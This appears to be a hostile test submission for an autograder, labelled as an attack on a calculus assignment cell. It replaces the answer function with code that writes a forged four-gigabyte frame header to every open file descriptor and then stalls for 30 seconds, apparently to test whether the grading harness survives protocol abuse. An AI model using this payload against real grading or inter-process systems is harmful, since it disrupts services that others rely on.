# attack: A frame that claims four gigabytes, then silence.
# wants: stop
# assignment: 03_multivariable
# expects: graded
# %% replace answer_3_2
import os, struct, time

def partials_by_hand(x, r):
    for fd in range(3, 256):
        try:
            os.write(fd, struct.pack("<II", 2**32 - 1, 2**32 - 1) + b"{")
        except OSError:
            pass
    time.sleep(30)
